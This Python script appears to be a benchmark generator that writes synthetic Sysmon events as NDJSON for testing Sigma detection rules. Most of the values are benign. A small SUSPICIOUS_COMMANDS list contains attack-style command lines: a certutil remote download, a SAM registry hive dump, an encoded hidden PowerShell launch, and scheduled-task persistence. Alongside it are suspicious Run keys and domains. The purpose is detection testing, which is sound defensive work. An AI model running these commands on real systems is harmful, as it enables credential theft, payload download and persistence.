#!/usr/bin/env python3
"""Writes N Sysmon-shaped events as NDJSON: EVTX rendered as JSON (Event.System, Event.EventData),
the shape of ../shared/corpus/sigma/regression_data. The mix of event IDs and the value pools
follow an ordinary Windows workstation: mostly process creations, then network connections, file
creations, registry value sets, image loads and DNS queries. Values are benign but for one event in
SUSPICIOUS_ONE_IN, which takes a suspicious command line, file, key or domain, so that rules fire
now and then, as on a real host. Deterministic for a given seed.

    bench/gen_sysmon_events.py N [SEED] > events.ndjson
"""
import json
import random
import sys

SUSPICIOUS_ONE_IN = 500
HOSTS = ["WKS-%03d.corp.example" % i for i in range(40)]
USERS = ["CORP\\alice", "CORP\\bob", "CORP\\carol", "CORP\\svc_backup", "NT AUTHORITY\\SYSTEM"]
IMAGES = [
    r"C:\Windows\System32\svchost.exe", r"C:\Windows\explorer.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\conhost.exe", r"C:\Windows\System32\RuntimeBroker.exe",
    r"C:\Program Files\Microsoft VS Code\Code.exe", r"C:\Windows\System32\taskhostw.exe",
    r"C:\Windows\System32\certutil.exe", r"C:\Windows\System32\rundll32.exe",
    r"C:\Windows\System32\reg.exe", r"C:\Windows\System32\schtasks.exe",
]
COMMANDS = {
    "svchost.exe": ["C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                    "C:\\Windows\\system32\\svchost.exe -k LocalService -p"],
    "explorer.exe": ["C:\\Windows\\Explorer.EXE"],
    "chrome.exe": ["\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
                   "--lang=en-US --field-trial-handle=1788,i,123456 /prefetch:1"],
    "WINWORD.EXE": ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
                    "\"C:\\Users\\alice\\Documents\\report.docx\""],
    "powershell.exe": ["powershell.exe -NoProfile -File C:\\scripts\\backup.ps1",
                       "powershell.exe Get-ChildItem C:\\Users\\alice\\Documents"],
    "cmd.exe": ["cmd.exe /c dir C:\\Users\\alice",
                "C:\\Windows\\system32\\cmd.exe /c \"echo hello > C:\\temp\\a.txt\""],
    "conhost.exe": ["\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"],
    "RuntimeBroker.exe": ["C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"],
    "Code.exe": ["\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --type=utility"],
    "taskhostw.exe": ["taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}"],
    "certutil.exe": ["certutil.exe -store My", "certutil.exe -verify C:\\Windows\\System32\\drivers\\x.sys"],
    "rundll32.exe": ["rundll32.exe C:\\Windows\\system32\\shell32.dll,Control_RunDLL desk.cpl"],
    "reg.exe": ["reg.exe query HKCU\\Software\\Microsoft\\Office\\16.0"],
    "schtasks.exe": ["schtasks.exe /query /fo LIST"],
}
# The parents a process has on an ordinary workstation.
EXPLORER = r"C:\Windows\explorer.exe"
SERVICES = r"C:\Windows\System32\services.exe"
SVCHOST = r"C:\Windows\System32\svchost.exe"
CMD = r"C:\Windows\System32\cmd.exe"
PARENTS = {
    "svchost.exe": [SERVICES], "explorer.exe": [r"C:\Windows\System32\userinit.exe"],
    "chrome.exe": [EXPLORER, r"C:\Program Files\Google\Chrome\Application\chrome.exe"],
    "WINWORD.EXE": [EXPLORER], "powershell.exe": [EXPLORER], "cmd.exe": [EXPLORER],
    "conhost.exe": [CMD], "RuntimeBroker.exe": [SVCHOST], "Code.exe": [EXPLORER],
    "taskhostw.exe": [SVCHOST], "certutil.exe": [CMD], "rundll32.exe": [EXPLORER],
    "reg.exe": [CMD], "schtasks.exe": [CMD],
}
PARENT_COMMANDS = {
    "services.exe": "C:\\Windows\\system32\\services.exe", "userinit.exe": "C:\\Windows\\system32\\userinit.exe",
}
SUSPICIOUS_COMMANDS = [
    "certutil.exe -urlcache -split -f http://198.51.100.7/p.txt C:\\temp\\p.txt",
    "certutil.exe -addstore -user TrustedPublisher C:\\Users\\bob\\AppData\\Local\\Temp\\a.cer",
    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    "reg.exe save HKLM\\SAM C:\\temp\\sam.save",
    "schtasks /create /sc minute /mo 5 /tn upd /tr C:\\temp\\u.exe",
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "cmd.exe /c whoami /all",
]
FILES = [r"C:\Users\alice\AppData\Local\Temp\tmp%04x.tmp", r"C:\Users\bob\Downloads\invoice_%d.pdf",
         r"C:\Windows\Prefetch\CHROME.EXE-%08X.pf", r"C:\ProgramData\Microsoft\Windows Defender\Scans\mpcache-%x.bin",
         r"C:\Users\carol\AppData\Roaming\Microsoft\Windows\Recent\doc%d.lnk"]
SUSPICIOUS_FILES = [r"C:\Users\bob\AppData\Local\Temp\cert%d.pfx", r"C:\Users\Public\%d.bat"]
REG_KEYS = [r"HKU\S-1-5-21-1004336348-1177238915-682003330-1001\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\%d",
            r"HKLM\SYSTEM\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-%d\Device"]
SUSPICIOUS_KEYS = [r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater%d",
                   r"HKLM\SOFTWARE\Microsoft\SystemCertificates\ROOT\Certificates\%040X\Blob"]
DLLS = [r"C:\Windows\System32\ntdll.dll", r"C:\Windows\System32\kernel32.dll",
        r"C:\Windows\System32\wininet.dll", r"C:\Windows\System32\uxtheme.dll"]
SUSPICIOUS_DLLS = [r"C:\Windows\System32\dbghelp.dll", r"C:\Users\alice\AppData\Local\Temp\x%d.dll"]
DOMAINS = ["www.google.com", "login.microsoftonline.com", "update.example.com", "www.bing.com"]
SUSPICIOUS_DOMAINS = ["pastebin.com", "raw.githubusercontent.com", "ngrok.io"]


def guid(r):
    return "{%08X-%04X-%04X-%04X-%012X}" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(16),
                                            r.getrandbits(16), r.getrandbits(48))


def system(r, eid, record, t):
    return {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon",
                                     "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
        "EventID": eid, "Version": 5, "Level": 4, "Task": eid, "Opcode": 0,
        "Keywords": "0x8000000000000000",
        "TimeCreated": {"#attributes": {"SystemTime": t}},
        "EventRecordID": record, "Correlation": None,
        "Execution": {"#attributes": {"ProcessID": 3208, "ThreadID": 1724}},
        "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": r.choice(HOSTS),
        "Security": {"#attributes": {"UserID": "S-1-5-18"}},
    }


def image_name(path):
    return path.rsplit("\\", 1)[-1]


def pick(r, pool, suspicious_pool, suspicious):
    return r.choice(suspicious_pool if suspicious else pool)


def event(r, record):
    bad = r.randrange(SUSPICIOUS_ONE_IN) == 0
    seconds = record // 50
    t = "2026-11-%02dT%02d:%02d:%02d.%06dZ" % (1 + seconds // 86400 % 28, seconds // 3600 % 24,
                                              seconds // 60 % 60, seconds % 60, r.randrange(10 ** 6))
    utc = t[:10] + " " + t[11:23]
    image = r.choice(IMAGES)
    common = {"RuleName": "-", "UtcTime": utc, "ProcessGuid": guid(r), "ProcessId": r.randrange(100, 20000),
              "Image": image}
    kind = r.random()
    if kind < 0.40:
        eid = 1
        parent = r.choice(IMAGES) if bad else r.choice(PARENTS[image_name(image)])
        data = dict(common, FileVersion="10.0.19041.1", Description=image_name(image),
                    Product="Microsoft Windows Operating System", Company="Microsoft Corporation",
                    OriginalFileName=image_name(image),
                    CommandLine=r.choice(SUSPICIOUS_COMMANDS) if bad else r.choice(COMMANDS[image_name(image)]),
                    CurrentDirectory="C:\\Windows\\system32\\", User=r.choice(USERS),
                    LogonGuid=guid(r), LogonId="0x3e7", TerminalSessionId=1, IntegrityLevel="Medium",
                    Hashes="SHA256=%064X" % r.getrandbits(256), ParentProcessGuid=guid(r),
                    ParentProcessId=r.randrange(100, 20000), ParentImage=parent,
                    ParentCommandLine=PARENT_COMMANDS.get(image_name(parent))
                    or r.choice(COMMANDS[image_name(parent)]), ParentUser=r.choice(USERS))
    elif kind < 0.55:
        eid = 3
        data = dict(common, User=r.choice(USERS), Protocol="tcp", Initiated="true", SourceIsIpv6="false",
                    SourceIp="10.1.%d.%d" % (r.randrange(256), r.randrange(256)),
                    SourceHostname=r.choice(HOSTS), SourcePort=r.randrange(49152, 65535),
                    SourcePortName="-", DestinationIsIpv6="false",
                    DestinationIp="%d.%d.%d.%d" % (r.choice([13, 52, 104, 140, 198]), r.randrange(256),
                                                   r.randrange(256), r.randrange(256)),
                    DestinationHostname=pick(r, DOMAINS, SUSPICIOUS_DOMAINS, bad),
                    DestinationPort=r.choice([443, 80, 8080, 4444]) if bad else r.choice([443, 80]),
                    DestinationPortName="https")
    elif kind < 0.70:
        eid = 11
        data = dict(common, TargetFilename=pick(r, FILES, SUSPICIOUS_FILES, bad) % r.randrange(65536),
                    CreationUtcTime=utc, User=r.choice(USERS))
    elif kind < 0.85:
        eid = 13
        data = dict(common, EventType="SetValue",
                    TargetObject=pick(r, REG_KEYS, SUSPICIOUS_KEYS, bad) % r.randrange(2 ** 32),
                    Details="DWORD (0x00000001)", User=r.choice(USERS))
    elif kind < 0.95:
        eid = 7
        dll = pick(r, DLLS, SUSPICIOUS_DLLS, bad)
        if "%d" in dll:
            dll = dll % r.randrange(1000)
        data = dict(common, ImageLoaded=dll, FileVersion="10.0.19041.1", Description=image_name(dll),
                    Product="Microsoft Windows Operating System", Company="Microsoft Corporation",
                    OriginalFileName=image_name(dll), Hashes="SHA256=%064X" % r.getrandbits(256),
                    Signed="true", Signature="Microsoft Windows", SignatureStatus="Valid", User=r.choice(USERS))
    else:
        eid = 22
        data = dict(common, QueryName=pick(r, DOMAINS, SUSPICIOUS_DOMAINS, bad), QueryStatus="0",
                    QueryResults="type:  5 %s;::ffff:142.250.185.68;" % r.choice(DOMAINS), User=r.choice(USERS))
    return {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                      "System": system(r, eid, record, t), "EventData": data}}


def main():
    count = int(sys.argv[1])
    r = random.Random(int(sys.argv[2]) if len(sys.argv) > 2 else 1553)
    out = sys.stdout
    for record in range(1, count + 1):
        out.write(json.dumps(event(r, record), separators=(",", ":")))
        out.write("\n")


main()
